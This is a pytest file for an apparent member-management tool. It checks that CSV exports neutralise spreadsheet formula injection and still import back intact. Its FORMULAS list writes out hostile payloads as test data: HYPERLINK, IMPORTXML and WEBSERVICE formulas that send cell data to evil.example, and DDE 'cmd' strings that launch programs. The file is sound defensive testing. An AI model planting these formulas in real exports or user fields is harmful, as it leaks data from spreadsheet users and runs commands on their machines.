"""Exports are safe to open in a spreadsheet (OWASP CSV injection) and still import back."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from omtui.core import members
from omtui.core.csvfile import neutralise, restore
from omtui.core.db import Database, open_database
from omtui.core.importer import apply_import, export_members, preview_import

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://evil.example/")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_every_formula_is_neutralised_and_restored(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize(
    "value",
    ["+33 6 12 34 56 78", "+33 (0)6 12.34-56-78", "06-12-34-56-78", "(555) 123-4567"],
)
def test_phone_numbers_stay_as_they_are(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


@pytest.mark.parametrize(
    "value",
    ["", "plain", "'quoted", "'=already", "''+x", "a=b", "'+33 6 12", "' =x", "don't"],
)
def test_round_trip_of_values_with_apostrophes(value: str) -> None:
    assert restore(neutralise(value)) == value


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def test_hostile_export_is_inert_and_imports_back_unchanged(
    db: Database, tmp_path: Path, now
) -> None:
    for number, formula in enumerate(FORMULAS):
        members.add_member(
            db,
            {
                "email": f"m{number}@example.com",
                "first_name": formula,
                "last_name": "=" + str(number),
                "company": "@Corp",
                "city": "-Lyon",
                "phone": "+33 6 12 34 56 78",
                "job_title": "'=quoted",
                "notes": formula,
            },
            now=now,
        )
    members.add_member(db, {"email": "-dash@example.com", "notes": "+A1"}, now=now)
    path = tmp_path / "export.csv"
    assert export_members(db, path) == len(FORMULAS) + 1
    rows = _cells(path)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == (
                "+33 6 12 34 56 78"
            ), cell
    assert [r[0] for r in rows if "dash" in r[0]] == ["'-dash@example.com"]

    preview = preview_import(db, path, now=now)
    assert preview.counts == {"new": 0, "updated": 0, "unchanged": 11, "rejected": 0}

    fresh = open_database(tmp_path / "fresh.db")
    apply_import(fresh, preview_import(fresh, path, now=now), now=now)

    def fields(database: Database) -> list[dict]:
        return [
            {k: v for k, v in m.as_dict().items() if k not in ("id", "joined_at")}
            for m in members.query_members(database, sort="email", limit=None)
        ]

    assert fields(fresh) == fields(db)
    stored = members.find_by_email(fresh, "m0@example.com")
    assert stored is not None and stored.first_name == FORMULAS[0]
    fresh.close()
